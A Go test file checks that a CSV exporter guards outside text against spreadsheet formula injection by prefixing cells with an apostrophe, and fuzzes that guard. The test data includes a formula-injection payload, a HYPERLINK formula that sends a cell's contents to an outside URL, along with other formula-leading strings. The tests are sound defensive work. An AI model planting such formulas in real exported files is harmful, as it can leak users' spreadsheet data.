package display

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"figures_exporter/exporter/document"
	"figures_exporter/exporter/figure"
)

// row writes a figure of a document that says nothing but the source's name and the number, and gives its cells by their heads.
func row(t testing.TB, source string, value float64, more string) map[string]string {
	t.Helper()
	text := source + " says 5"
	f := &figure.Figure{
		Metric: "balance", Value: value, Low: figure.BoundAt(value), Qualifier: figure.AtLeast, ReportedAt: time.Date(2024, 10, 29, 0, 0, 0, 0, time.UTC),
		Labels:   figure.NewLabels([]figure.Label{{Name: figure.LabelSource, Value: source}, {Name: "force", Value: source}}),
		Document: &document.Document{ID: source, Path: source, Text: text},
		Evidence: []figure.Evidence{{Start: 0, End: int32(len(text)), SentenceEnd: int32(len(text))}},
	}
	var out strings.Builder
	w := NewCSV(&out, []figure.Metric{{Name: "balance", Labels: []string{"force"}}}, "state")
	w.Write(f, more)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("%d records, %v in\n%s", len(records), err, &out)
	}
	cells := map[string]string{}
	for i, head := range records[0] {
		cells[head] = records[1][i]
	}
	return cells
}

// texts are the columns whose cells come from outside.
var texts = []string{"document", "document_id", "source", "force", "span", "quote", "state"}

// A spreadsheet must run nothing that an article says.
func TestCSVHasNoFormulas(t *testing.T) {
	for source, want := range map[string]string{
		`=HYPERLINK("https://example.org/?"&A1)`: `'=HYPERLINK("https://example.org/?"&A1)`,
		"+1":                                     "'+1",
		"-1":                                     "'-1",
		"@SUM(A1)":                               "'@SUM(A1)",
		"\t=1":                                   "'\t=1",
		"\r=1":                                   "'\r=1",
		"\x00=1":                                 "'\x00=1",
		"＝1":                                     "'＝1",
		"'Tis said":                              "''Tis said", // so that what is taken off is always the guard
		"":                                       "",
		"HUR":                                    "HUR",
		"-":                                      "-", // standard input
		"–5 is a dash and 2=2":                   "–5 is a dash and 2=2",
		"５":                                      "５",
	} {
		cells := row(t, source, 5, source)
		for _, head := range []string{"source", "force", "document", "document_id", "state"} {
			if cells[head] != want {
				t.Errorf("%q: %s is %q, want %q", source, head, cells[head], want)
			}
		}
		if len(source) > 1 && cells["quote"] != want+" says 5" || cells["quote"] != cells["span"] {
			t.Errorf("%q: quote %q, span %q", source, cells["quote"], cells["span"])
		}
	}
	if cells := row(t, "HUR", -5, ""); cells["value"] != "-5" || cells["low"] != "-5" {
		t.Errorf("a number is guarded: value %q, low %q", cells["value"], cells["low"])
	}
}

// Whatever a text says, no cell of text begins as a formula does, and without its guard it is the text again.
func FuzzCSV(f *testing.F) {
	for _, seed := range []string{"", "=1", "''=1", "HUR", "a,\"b\"\n=c", "\r\n=1", "\ufeff=1"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, source string) {
		// The reader makes of a line break of Windows one of Unix, in quotes too.
		want := strings.ReplaceAll(source, "\r\n", "\n")
		cells := row(t, source, 5, source)
		for head, cell := range cells {
			if !slices.Contains(texts, head) {
				continue
			}
			if cell != "-" && strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r\n\x00") {
				t.Errorf("%s begins as a formula: %q", head, cell)
			}
			if head != "span" && head != "quote" && strings.TrimPrefix(cell, "'") != want {
				t.Errorf("%s is %q, want %q again", head, cell, want)
			}
		}
	})
}
